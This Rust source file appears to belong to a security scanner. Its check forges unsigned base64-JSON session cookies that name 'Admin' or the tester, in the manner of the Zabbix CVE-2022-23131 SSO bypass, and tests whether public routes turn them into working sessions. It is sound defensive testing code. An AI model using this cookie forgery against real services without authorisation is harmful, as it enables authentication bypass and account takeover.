//! H35: a public route that makes a session of a cookie whose signature it does not verify.
//!
//! In CVE-2022-23131 (Zabbix), a session is JSON in a cookie, with a signature in it. The single
//! sign-on read the user from the cookie before it verified the signature, and set a signed one.

use super::attack_run::AttackRun;
use super::got_through::GotThrough;
use super::public_cookies::cookies_of;
use crate::catalogue::{Credentials, SEC_FETCH_SITE};
use crate::issuer::CredentialSource;
use crate::report::RouteReport;
use crate::target::{Decision, Place, Route};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use http::Method;
use http::header::COOKIE;
use serde_json::{Map, Value, json};

/// How many public routes get such a cookie.
const TRIED: usize = 8;

/// How many cookies are forged.
const COOKIES: usize = 2;

/// Members that name the caller.
const NAMES: [&str; 9] = ["user", "username", "user_id", "userId", "uid", "sub", "email", "login", "name"];

/// Members with a signature.
const SIGNATURES: [&str; 6] = ["sign", "sig", "signature", "mac", "hmac", "hash"];

impl AttackRun {
    pub(super) async fn attack_unsigned_cookies(&mut self, routes: &[Route], reports: &mut [RouteReport]) {
        if self.plan.without.contains("H35") || self.locked_out {
            return;
        }
        let cookies = self.cookies_of_json(routes).await;
        let is_tried = |(_, route): &(usize, &Route)| {
            route.decision() == Decision::Public
                && route.method == "GET"
                && !route.grpc
                && self.plan.exclusion_of(route).is_none()
        };
        let tried: Vec<(usize, &Route)> = routes.iter().enumerate().filter(is_tried).take(TRIED).collect();
        for (place, route) in tried {
            for (name, members) in &cookies {
                let is_found = self.attack_unsigned_cookie(route, routes, (name, members)).await;
                reports[place].count("H35", is_found);
                if is_found {
                    break;
                }
            }
        }
    }

    async fn attack_unsigned_cookie(
        &mut self,
        route: &Route,
        routes: &[Route],
        (name, members): (&str, &Map<String, Value>),
    ) -> bool {
        let template = self.plan.template(route, &Method::GET);
        for value in forged(members) {
            let forged = cookie(name, &value);
            let Ok(response) = self.send(template.request(&forged)).await else { continue };
            // A cookie that the service has only sent back is the forged one.
            for (name, value) in cookies_of(&response).into_iter().filter(|(_, set)| *set != value) {
                if self.opened_by(routes, &cookie(&name, &value)).await.is_none() {
                    continue;
                }
                // A session for everyone is another mistake: H35 sends cookies of public routes.
                let plain = self.send(template.request(&Credentials::none())).await;
                if plain.is_ok_and(|plain| cookies_of(&plain).iter().any(|(set, _)| *set == name)) {
                    continue;
                }
                let got_through = GotThrough {
                    id: "H35",
                    what: format!("a cookie {name} with the caller in JSON and no signature"),
                    problem: format!(
                        "public route makes a session of an unsigned cookie: `{}` with a cookie `{name}` that opens a \
                         protected route: verify the signature before a member is read",
                        response.status
                    ),
                };
                self.report_got_through((route, &Method::GET), got_through, (&template, &forged), &response);
                return true;
            }
        }
        false
    }

    /// The cookies whose value is the base64 of a JSON object.
    ///
    /// They are those of the test, and those that public routes set.
    async fn cookies_of_json(&self, routes: &[Route]) -> Vec<(String, Map<String, Value>)> {
        let mut cookies = Vec::new();
        for kind in routes.iter().flat_map(|route| &route.accepts) {
            let Some(source @ CredentialSource::Own(_)) = self.plan.credentials.of(kind) else { continue };
            for place in &kind.places {
                let Place::Cookie(name) = place else { continue };
                if !cookies.iter().any(|(known, _)| known == name) {
                    cookies.push((name.clone(), source.good(&[]).await));
                }
            }
        }
        cookies.extend(self.public_cookies.iter().map(|(name, value)| (name.clone(), value.clone())));
        let decoded = |(name, value): (String, String)| Some((name, decoded(&value)?));
        cookies.into_iter().filter_map(decoded).take(COOKIES).collect()
    }
}

fn decoded(value: &str) -> Option<Map<String, Value>> {
    let bytes = URL_SAFE_NO_PAD.decode(value).or_else(|_| STANDARD.decode(value)).ok()?;
    serde_json::from_slice(&bytes).ok()
}

/// Values with the members of a right one and each name of the caller, and without a signature.
fn forged(members: &Map<String, Value>) -> Vec<String> {
    let own = NAMES.iter().find_map(|name| members.get(*name)?.as_str()).unwrap_or("admin");
    let mut all = Vec::new();
    for user in [own, "Admin"] {
        let mut forged = members.clone();
        forged.retain(|name, _| !SIGNATURES.contains(&name.as_str()));
        forged.extend(NAMES.map(|name| (name.to_owned(), json!(user))));
        forged.insert("saml_data".to_owned(), json!({"username_attribute": user}));
        let text = Value::Object(forged).to_string();
        all.extend([URL_SAFE_NO_PAD.encode(&text), STANDARD.encode(&text)]);
    }
    all.dedup();
    all
}

/// As a page of the service sends it.
fn cookie(name: &str, value: &str) -> Credentials {
    Credentials::none().header(COOKIE, format!("{name}={value}")).header(SEC_FETCH_SITE, "same-origin")
}
